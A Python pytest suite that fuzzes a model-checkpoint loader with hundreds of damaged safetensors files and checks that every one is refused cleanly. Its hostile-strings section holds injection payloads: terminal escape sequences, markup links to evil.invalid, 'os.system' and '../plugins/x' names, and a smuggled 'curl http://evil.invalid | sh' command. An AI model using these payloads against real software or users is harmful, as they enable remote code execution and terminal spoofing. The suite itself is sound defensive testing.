"""The mutation suite: hundreds of damaged variants of real checkpoints, each of which
``zoo.load`` and ``inspect`` must refuse with a CheckpointError naming the file, and
nothing else.

Two real checkpoints (a tied GPT-2-style model and an untied post-norm 2017-style one)
are damaged family by family: truncation, byte flips in the header and in the data,
header-length lies, trailing bytes, edited metadata and config JSON, changed dtypes and
shapes, dropped and added tensors, raised formats. "Signed" variants get a correct
digest for their edited contents, so the checks behind the digest are what must catch
them; those also run with ``verify=False``. Variants only the digest can catch run with
``verify=True`` and, with ``verify=False``, must either load or raise a CheckpointError:
never a raw SafetensorError, KeyError, RuntimeError or JSONDecodeError.
"""

from __future__ import annotations

import io
import itertools
import json
import os
import random
import re
import struct
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, NamedTuple

import pytest
import safetensors.torch
import torch

import zoo
from helpers import edit_config, edit_metadata, edit_tensors, join_file, split_file, tiny
from zoo import CheckpointError
from zoo.checkpoint import FORMAT, inspect
from zoo.cli import main


class Variant(NamedTuple):
    label: str
    raw: bytes
    digest_only: bool  # True: only the digest can tell (run with verify=True)
    lenient_too: bool = False  # True: load(strict=False) must refuse it as well


Family = Callable[[bytes, bool], Iterator[Variant]]  # (checkpoint bytes, slow) -> variants
Change = Callable[[dict[str, torch.Tensor]], None]  # edits a file's tensors in place


# -- the families ----------------------------------------------------------------------


def _header_end(raw: bytes) -> int:
    return 8 + struct.unpack("<Q", raw[:8])[0]


def truncations(raw: bytes, slow: bool) -> Iterator[Variant]:
    end = _header_end(raw)
    header_step, data_step = (1, 97) if slow else (79, (len(raw) - end) // 30)
    cuts = {*range(0, 17), *range(17, end, header_step), *range(end, len(raw), data_step)}
    cuts |= {end - 1, end, end + 1, len(raw) - 1}
    for cut in sorted(cuts):
        yield Variant(f"truncated at {cut}", raw[:cut], False)


def header_flips(raw: bytes, slow: bool) -> Iterator[Variant]:
    end = _header_end(raw)
    masks = (0x01, 0x20, 0x80, 0xFF) if slow else (0x01, 0x80)
    positions = range(0, end) if slow else range(0, end, 59)
    for position in positions:
        for mask in masks:
            flipped = bytearray(raw)
            flipped[position] ^= mask
            yield Variant(f"header byte {position} ^ {mask:#04x}", bytes(flipped), True)


def data_flips(raw: bytes, slow: bool) -> Iterator[Variant]:
    end = _header_end(raw)
    rng = random.Random(len(raw))
    for i in range(400 if slow else 60):
        position = rng.randrange(end, len(raw))
        flipped = bytearray(raw)
        flipped[position] ^= (0x01, 0x80, 0xFF)[i % 3]
        yield Variant(f"data byte {position} flipped", bytes(flipped), True)


def length_lies(raw: bytes, slow: bool) -> Iterator[Variant]:
    length = _header_end(raw) - 8
    for lie in (0, 1, 7, 8, length - 8, length - 1, length + 1, length + 8, len(raw) - 8, len(raw),
                2**31, 2**32 + length, 2**63, 2**64 - 1):  # fmt: skip
        yield Variant(f"header length {lie}", struct.pack("<Q", lie) + raw[8:], False)


def trailing_bytes(raw: bytes, slow: bool) -> Iterator[Variant]:
    for extra in (b"\0", b"\0" * 8, b" " * 8, bytes(range(256)), raw):
        yield Variant(f"{len(extra)} trailing bytes", raw + extra, False)


def metadata_edits(raw: bytes, slow: bool) -> Iterator[Variant]:
    for key in (
        "zoo.format",
        "zoo.version",
        "zoo.created",
        "zoo.config",
        "zoo.components",
        "zoo.ties",
        "zoo.metadata",
    ):
        yield Variant(f"{key} removed", edit_metadata(raw, **{key.replace(".", "_"): None}), False)
    yield Variant("zoo.digest removed", edit_metadata(raw, signed=False, zoo_digest=None), True)
    for value in (str(FORMAT + 1), "3", "999", "10000000000", "-1", "x", "", "1.0", " 1", "01", "0", "１"):
        yield Variant(f"zoo.format = {value!r}", edit_metadata(raw, zoo_format=value), False)
    for value in ("", "sha256:" + "0" * 64, "xxh3_128:" + "0" * 32, "xxh3_128:zz", "XXH3_128:00"):
        yield Variant(f"zoo.digest = {value!r}", edit_metadata(raw, signed=False, zoo_digest=value), True)
    bad_json = ("{", "[]", "null", '"text"', "1", "[" * 100_000, '{"a":' * 50_000, "NaN", "{}x")
    for key in ("zoo.config", "zoo.components", "zoo.ties", "zoo.metadata"):
        for value in bad_json:
            yield Variant(f"{key} = {value[:12]!r}", edit_metadata(raw, **{key.replace(".", "_"): value}), False)
    for value in ('{"attention": 1}', '{"attention": {"name": 5}}', '{"norm": []}'):
        yield Variant(f"zoo.components = {value}", edit_metadata(raw, zoo_components=value), False)
    for value in ('{"head.weight": "blocks.0.attn.qkv.weight"}', '{"a": 1}', '{"tok_emb.weight": "head.weight"}'):
        yield Variant(f"zoo.ties = {value}", edit_metadata(raw, zoo_ties=value), False)
    for value in ("yesterday", "", "2024-13-45T00:00:00"):
        yield Variant(f"zoo.created = {value!r}", edit_metadata(raw, zoo_created=value), False)
    # Plausible edits only the digest can see.
    yield Variant("zoo.version edited", edit_metadata(raw, signed=False, zoo_version="0.0.9"), True)
    yield Variant("zoo.metadata edited", edit_metadata(raw, signed=False, zoo_metadata='{"step": 1}'), True)
    yield Variant("zoo.created edited", edit_metadata(raw, signed=False, zoo_created="2001-01-01T00:00:00+00:00"), True)
    yield Variant("unknown key added", edit_metadata(raw, signed=False, zoo_extra="1"), True)


# Config edits that no tiny model of either base can load, each with a correct digest.
BAD_CONFIG: list[dict[str, Any]] = [
    *({"vocab_size": v} for v in (0, -1, 10**9, "x", 1.5, None, 98)),
    *({"d_model": v} for v in (0, 33, 64, 2**20)),
    *({"n_layers": v} for v in (0, 1, 3, 10**6)),
    *({"n_heads": v} for v in (0, 3, 5, 64)),
    *({"d_ff": v} for v in (0, 64, -3)),
    {"max_seq_len": 0}, {"max_seq_len": 2**30},
    {"dropout": 1.5}, {"dropout": {"attention": -0.1}}, {"dropout": {"typo": 0.1}},
    {"norm_eps": 0}, {"norm_eps": "tiny"}, {"embedding_scale": "x"}, {"head_output": "probs"},
    {"final_norm": "maybe"}, {"bias": "maybe"}, {"architecture": "rnn"}, {"architecture": "encoder_decoder"},
    {"secret": 1}, {"__class__": "os.system"},
    *({kind: name} for kind in zoo.KINDS for name in ("", "nope", "os.system", "../plugins/x")),
    {"attention": {"name": "sdpa", "flash": True}}, {"position": {"name": "sinusoidal", "base": -1}},
    {"attention": 5}, {"norm": {"eps": 1}},
]  # fmt: skip


def config_edits(raw: bytes, slow: bool) -> Iterator[Variant]:
    config = json.loads(split_file(raw)[0]["__metadata__"]["zoo.config"])
    for change in BAD_CONFIG:
        yield Variant(f"config {change}", edit_config(raw, **change), False)
    yield Variant("config: bias flipped", edit_config(raw, bias=not config["bias"]), False)
    yield Variant("config: ties flipped", edit_config(raw, tie_embeddings=not config["tie_embeddings"]), False)
    yield Variant("config: dropout edited, unsigned", edit_config(raw, signed=False, dropout=0.25), True)
    yield Variant("config: norm_eps edited, unsigned", edit_config(raw, signed=False, norm_eps=1e-3), True)


def replacing(name: str, make: Callable[[torch.Tensor], torch.Tensor]) -> Change:
    """A change for ``edit_tensors`` that replaces tensor ``name`` by ``make(it)``."""

    def change(tensors: dict[str, torch.Tensor]) -> None:
        tensors[name] = make(tensors[name])

    return change


def adding(name: str, make: Callable[[dict[str, torch.Tensor]], torch.Tensor]) -> Change:
    def change(tensors: dict[str, torch.Tensor]) -> None:
        tensors[name] = make(tensors)

    return change


def reshaped(tensor: torch.Tensor) -> torch.Tensor:
    """Same elements, another shape: (n,) -> (n, 1), (a, b) -> (a * b,)."""
    return tensor.reshape(-1, 1) if tensor.dim() == 1 else tensor.reshape(-1)


def tensor_edits(raw: bytes, slow: bool) -> Iterator[Variant]:
    names = sorted(safetensors.torch.load(raw))
    for name in names[:: 1 if slow else 2]:
        yield Variant(f"{name} dropped", edit_tensors(raw, lambda t, n=name: t.pop(n)), False)
    extras = ["extra.weight", f"{names[0]}.copy", "blocks.7.attn.qkv.weight", "head.bias"]
    if "head.weight" not in names:
        extras.append("head.weight")  # a tied weight stored twice
    for extra in extras:
        yield Variant(f"{extra} added", edit_tensors(raw, adding(extra, lambda t: t["tok_emb.weight"].clone())), False)
    for name in names[:: 1 if slow else 6]:
        for dtype in (torch.int32, torch.int64, torch.uint8, torch.bool):
            yield Variant(f"{name} as {dtype}", edit_tensors(raw, replacing(name, lambda t, d=dtype: t.to(d))), False)
        for dtype in (torch.float16, torch.bfloat16, torch.float64):  # a mixed-precision file is legal once signed
            change = replacing(name, lambda t, d=dtype: t.to(d))
            yield Variant(f"{name} as {dtype}, unsigned", edit_tensors(raw, change, signed=False), True)
        yield Variant(f"{name} reshaped", edit_tensors(raw, replacing(name, reshaped)), False)
        shifted = replacing(name, lambda t: t + 0.001)
        yield Variant(f"{name} values changed, unsigned", edit_tensors(raw, shifted, signed=False), True)


def header_json_edits(raw: bytes, slow: bool) -> Iterator[Variant]:
    """Edits of the safetensors header itself, keeping the data section as it is."""
    header, data = split_file(raw)
    entries = {k: v for k, v in header.items() if k != "__metadata__"}
    pairs = {}
    for name, entry in sorted(entries.items()):
        pairs.setdefault((entry["dtype"], tuple(entry["shape"])), []).append(name)
    tensors = safetensors.torch.load(raw)
    swappable = [
        (a, b)
        for names in pairs.values()
        for a, b in itertools.combinations(names, 2)
        if not torch.equal(tensors[a], tensors[b])  # swapping equal tensors changes nothing
    ]
    for a, b in swappable[: None if slow else 6]:
        yield Variant(f"{a} and {b} swapped", join_file({**header, a: header[b], b: header[a]}, data), True)

    def edited(name: str, **changes: Any) -> bytes:
        """The file with header entry ``name`` changed, data untouched."""
        return join_file({**header, name: {**header[name], **changes}}, data)

    for name, entry in sorted(entries.items())[:: 1 if slow else 5]:
        start, stop = entry["data_offsets"]
        for dtype in ("I32", "U32", "F16", "I8", "BOOL", "F64", "Q4", ""):
            yield Variant(f"{name} dtype {dtype}", edited(name, dtype=dtype), False)
        for shape in ([*entry["shape"][::-1], 1], [entry["shape"][0] * 2], [0], [-1], ["x"], []):
            yield Variant(f"{name} shape {shape}", edited(name, shape=shape), False)
        for offsets in ([start, stop - 1], [start + 1, stop], [start, stop + 4], [stop, start], [0, len(data) + 4]):
            yield Variant(f"{name} offsets {offsets}", edited(name, data_offsets=offsets), False)
        yield Variant(f"{name} one offset", edited(name, data_offsets=[start]), False)
    yield Variant("no __metadata__", join_file(entries, data), False)
    yield Variant("zoo.format as a number", edited("__metadata__", **{"zoo.format": 1}), False)
    yield Variant("__metadata__ a list", join_file({**header, "__metadata__": [1]}, data), False)
    text = json.dumps(header, separators=(",", ":")).encode() + b"}x"
    text += b" " * (-len(text) % 8)
    yield Variant("header followed by garbage", struct.pack("<Q", len(text)) + text + data, False)


def huge_configs(raw: bytes, slow: bool) -> Iterator[Variant]:
    """Legal configs far larger than the (few or no) tensors the file holds: even
    ``strict=False`` must refuse them before allocating (issue 9, item 5)."""
    config = json.loads(split_file(raw)[0]["__metadata__"]["zoo.config"])
    sizes = [dict(d_model=2048, n_layers=10, n_heads=16), dict(d_model=1024, n_layers=60, n_heads=16),
             dict(vocab_size=1_000_000, d_model=256, n_heads=4), dict(d_model=1024, n_layers=24, n_heads=16, d_ff=8192)]  # fmt: skip
    for size in sizes:
        sized = edit_config(raw, **size, max_seq_len=config["max_seq_len"])
        yield Variant(f"config {size}, no tensors", edit_tensors(sized, lambda t: t.clear()), False, True)
        keep_one = edit_tensors(sized, lambda t: [t.pop(n) for n in sorted(t)[1:]])
        yield Variant(f"config {size}, one tensor", keep_one, False, True)


def mixed_dtypes(raw: bytes, slow: bool) -> Iterator[Variant]:
    """Signed files whose float tensors disagree on dtype, or are float8 (item 6)."""
    names = sorted(safetensors.torch.load(raw))
    for name in names[:: 1 if slow else 4]:
        for dtype in (torch.bfloat16, torch.float16, torch.float64, torch.float8_e4m3fn, torch.float8_e5m2):
            yield Variant(
                f"{name} as {dtype}, signed", edit_tensors(raw, replacing(name, lambda t, d=dtype: t.to(d))), False
            )
    for dtype in (torch.float8_e4m3fn, torch.float8_e5m2):
        every = edit_tensors(raw, lambda t, d=dtype: t.update({k: v.to(d) for k, v in t.items()}))
        yield Variant(f"every tensor {dtype}", every, False)


def format_downgrades(raw: bytes, slow: bool) -> Iterator[Variant]:
    """A current file marked as an older format with its digest removed, so a migration
    would skip verification: never loads verified (item 7)."""
    names = sorted(safetensors.torch.load(raw))
    for name in names[:: 1 if slow else 3]:
        changed = edit_tensors(raw, replacing(name, lambda t: t + 0.5), signed=False)
        yield Variant(
            f"{name} changed, format 0, no digest",
            edit_metadata(changed, signed=False, zoo_format="0", zoo_digest=None),
            False,
        )
    for value in ("0", "00", "-0"):
        yield Variant(
            f"format {value!r}, no digest", edit_metadata(raw, signed=False, zoo_format=value, zoo_digest=None), False
        )


def foreign_files(raw: bytes, slow: bool) -> Iterator[Variant]:
    rng = random.Random(0)
    yield Variant("empty file", b"", False)
    yield Variant("8 zero bytes", b"\0" * 8, False)
    yield Variant("random bytes", bytes(rng.randrange(256) for _ in range(4096)), False)
    yield Variant("a JSON file", b'{"vocab_size": 97}', False)
    yield Variant("an empty safetensors file", join_file({}, b""), False)
    yield Variant("plain safetensors weights", safetensors.torch.save(safetensors.torch.load(raw)), False)
    pickled = io.BytesIO()
    torch.save(tiny().state_dict(), pickled)
    yield Variant("a torch.save pickle", pickled.getvalue(), False)


FAMILIES: list[Family] = [
    truncations, header_flips, data_flips, length_lies, trailing_bytes,
    metadata_edits, config_edits, tensor_edits, header_json_edits, foreign_files,
    huge_configs, mixed_dtypes, format_downgrades,
]  # fmt: skip


# -- running them ----------------------------------------------------------------------


@pytest.fixture(scope="module")
def bases(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """Two real checkpoints: tied GPT-2-style, and untied post-norm 2017-style."""
    folder = tmp_path_factory.mktemp("bases")
    return {
        "tied": zoo.save(tiny(), folder / "tied.safetensors").read_bytes(),
        "untied": zoo.save(tiny("transformer-2017", tie_embeddings=False), folder / "untied.safetensors").read_bytes(),
    }


def refusals(variants: Iterator[Variant], folder: Path) -> tuple[int, list[str]]:
    """Load every variant; returns how many ran and what went wrong."""
    failures, count = [], 0
    for index, variant in enumerate(variants):
        count += 1
        path = folder / f"variant-{index}.safetensors"
        path.write_bytes(variant.raw)
        calls: list[tuple[Callable[..., Any], dict[str, Any]]] = [
            (zoo.load, {"verify": True}),
            (inspect, {"verify": True}),
        ]
        if not variant.digest_only:
            calls.append((zoo.load, {"verify": False}))
        if variant.lenient_too:
            calls += [(zoo.load, {"verify": True, "strict": False}), (zoo.load, {"verify": False, "strict": False})]
        for call, options in calls:
            try:
                call(path, **options)
            except CheckpointError as err:
                if str(path) not in str(err):
                    failures.append(f"{variant.label} ({call.__name__}): message lacks the path: {err}")
            except Exception as err:  # the bug this suite hunts
                failures.append(f"{variant.label} ({call.__name__}, {options}): {type(err).__name__}: {err}")
            else:
                failures.append(f"{variant.label} ({call.__name__}, {options}): no error")
        if variant.digest_only:  # unverified, it may load; but only a CheckpointError may escape
            try:
                zoo.load(path, verify=False)
            except CheckpointError:
                pass
            except Exception as err:
                failures.append(f"{variant.label} (verify=False): {type(err).__name__}: {err}")
        path.unlink()  # a new inode for the next variant; loaded models keep their mapping
    return count, failures


# How many variants each family makes per base in the default run, at least.
MINIMUM = {
    truncations: 80, header_flips: 120, data_flips: 60, length_lies: 14, trailing_bytes: 5,
    metadata_edits: 70, config_edits: 70, tensor_edits: 40, header_json_edits: 100, foreign_files: 7,
    huge_configs: 8, mixed_dtypes: 20, format_downgrades: 5,
}  # fmt: skip


@pytest.mark.parametrize("family", FAMILIES, ids=lambda f: f.__name__)
@pytest.mark.parametrize("base", ["tied", "untied"])
def test_every_variant_is_refused(base: str, family: Family, bases: dict[str, bytes], tmp_path: Path) -> None:
    count, failures = refusals(family(bases[base], False), tmp_path)
    assert count >= MINIMUM[family]
    assert not failures, f"{len(failures)} of {count} variants:\n" + "\n".join(failures[:30])


def test_default_run_has_at_least_500_variants(bases: dict[str, bytes]) -> None:
    # Count what test_every_variant_is_refused actually feeds to load: distinct damaged files.
    assert set(MINIMUM) == set(FAMILIES)
    distinct = {v.raw for raw in bases.values() for family in FAMILIES for v in family(raw, False)}
    assert not distinct & set(bases.values()), "a variant equals its undamaged base"
    assert len(distinct) >= 500


@pytest.mark.slow
@pytest.mark.parametrize("family", FAMILIES, ids=lambda f: f.__name__)
@pytest.mark.parametrize("base", ["tied", "untied"])
def test_every_variant_is_refused_exhaustive(
    base: str, family: Family, bases: dict[str, bytes], tmp_path: Path
) -> None:
    count, failures = refusals(family(bases[base], True), tmp_path)
    assert not failures, f"{len(failures)} of {count} variants:\n" + "\n".join(failures[:30])


def test_a_damaged_version_leaves_the_others_loadable(tmp_path: Path) -> None:
    run = tmp_path / "run"
    model = tiny()
    zoo.save(model, run)
    latest = zoo.save(model, run)
    raw = bytearray(latest.read_bytes())
    raw[len(raw) // 2] ^= 0x10
    latest.unlink()
    latest.write_bytes(bytes(raw))
    with pytest.raises(CheckpointError, match="v0002.safetensors is damaged"):
        zoo.load(run)
    assert torch.equal(zoo.load(run, version=1).tok_emb.weight, model.tok_emb.weight)
    assert [v.version for v in zoo.versions(run)] == [1, 2]  # headers are intact


# -- directory-level damage and names -----------------------------------------------------


@pytest.mark.parametrize("other", ["v1.safetensors", "v01.safetensors", "v00001.safetensors"])
def test_two_files_claiming_one_version_are_refused_by_every_reader(other: str, tmp_path: Path) -> None:
    run = tmp_path / "run"
    zoo.save(tiny(), run)
    (run / other).write_bytes((run / "v0001.safetensors").read_bytes())
    readers = (lambda: zoo.load(run), lambda: zoo.load(run, version=1), lambda: zoo.versions(run), lambda: inspect(run))
    for read in readers:
        with pytest.raises(
            CheckpointError, match=f"two files for version 1: .*{re.escape(other)}|{re.escape(other)} .*v0001"
        ):
            read()


@pytest.mark.parametrize("length", [256, 300, 1000, 5000])
def test_names_too_long_for_the_filesystem_are_checkpoint_errors(length: int, tmp_path: Path) -> None:
    for path in (
        tmp_path / ("x" * length + ".safetensors"),
        tmp_path / ("d" * length) / "v.safetensors",
        tmp_path / ("r" * length),
    ):
        for call in (zoo.load, lambda p: zoo.save(tiny(), p), inspect):
            with pytest.raises(CheckpointError, match="bytes long"):
                call(path)
    with pytest.raises(CheckpointError, match="bytes long"):
        zoo.versions(tmp_path / ("r" * length))


# -- strings from the file: escape sequences and markup ------------------------------------

HOSTILE = [
    "\x1b[2J\x1b[31mred", "\x1b]8;;http://evil.invalid\x07click\x1b]8;;\x07", "bell\x07", "\x9b2Jcsi",
    "[/bold]", "[link=http://evil.invalid]x[/link]", "[bold red]loud", "zoo-modern; curl http://evil.invalid | sh #",
    "\u202eevil", "l" * 10_000,
]  # fmt: skip
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def hostile_strings(raw: bytes) -> Iterator[tuple[str, bytes]]:
    """Every string field a file carries, set to each hostile payload, signed: some
    load (user metadata may say anything), the rest are refused; none may reach a
    message or the terminal raw."""
    header, _ = split_file(raw)
    meta = header["__metadata__"]
    records = json.loads(meta["zoo.components"])
    config = json.loads(meta["zoo.config"])
    first = sorted(k for k in header if k != "__metadata__")[0]
    for text in HOSTILE:
        short = text[:20]
        yield f"zoo.version {short!r}", edit_metadata(raw, zoo_version=text)
        yield f"zoo.created {short!r}", edit_metadata(raw, zoo_created=text)
        yield f"metadata value {short!r}", edit_metadata(raw, zoo_metadata=json.dumps({"note": text}))
        yield f"metadata key {short!r}", edit_metadata(raw, zoo_metadata=json.dumps({text: 1}))
        yield f"config position name {short!r}", edit_config(raw, position={"name": text})
        yield f"config option {short!r}", edit_config(raw, position={**config["position"], text: 1})
        yield f"ties {short!r}", edit_metadata(raw, zoo_ties=json.dumps({text: first}))
        yield f"tensor name {short!r}", edit_tensors(raw, lambda t, n=text: t.update({n: t.pop(first)}))
        for field in ("name", "plugin", "distribution", "version"):
            record = {"name": "not-installed", "plugin": "p", "distribution": "zoo-lm-x", "version": "1", field: text}
            components = json.dumps({**records, "position": record})
            edited = edit_config(raw, position={"name": record["name"]})
            yield f"component {field} {short!r}", edit_metadata(edited, zoo_components=components)


@pytest.mark.parametrize("base", ["tied", "untied"])
def test_hostile_strings_never_reach_a_message_or_the_terminal_raw(
    base: str, bases: dict[str, bytes], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    failures, count = [], 0
    for index, (label, raw) in enumerate(hostile_strings(bases[base])):
        count += 1
        path = tmp_path / f"hostile-{index}.safetensors"
        path.write_bytes(raw)
        for call in (zoo.load, lambda p: zoo.load(p, verify=False, strict=False), inspect):
            try:
                call(path)
            except CheckpointError as err:
                message = str(err)
                if CONTROL.search(message) or len(message) > 4000 or "pip install zoo-modern;" in message:
                    failures.append(f"{label}: message {message[:200]!r}")
            except Exception as err:
                failures.append(f"{label}: {type(err).__name__}: {str(err)[:200]}")
        code = main(["inspect", str(path)])
        out, err = capsys.readouterr()
        if code not in (0, 1) or CONTROL.search(out + err) or "evil.invalid\x1b" in out:
            failures.append(f"{label}: zoo inspect exit {code}: {(out + err)[:300]!r}")
        if max((len(line) for line in (out + err).splitlines()), default=0) > 5000:
            failures.append(
                f"{label}: zoo inspect printed a line of {max(map(len, (out + err).splitlines()))} characters"
            )
        path.unlink()
    assert count >= 100
    assert not failures, f"{len(failures)} of {count} variants:\n" + "\n".join(failures[:30])


def test_the_hostile_markup_is_shown_as_text(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = zoo.save(tiny(), tmp_path / "m.safetensors", metadata={"note": "[link=http://evil.invalid]x[/link] [/bold]"})
    assert main(["inspect", str(path)]) == 0
    assert "[link=http://evil.invalid]x[/link] [/bold]" in capsys.readouterr().out


def test_name_limit_is_the_filesystems(tmp_path: Path) -> None:
    assert os.pathconf(tmp_path, "PC_NAME_MAX") >= 255
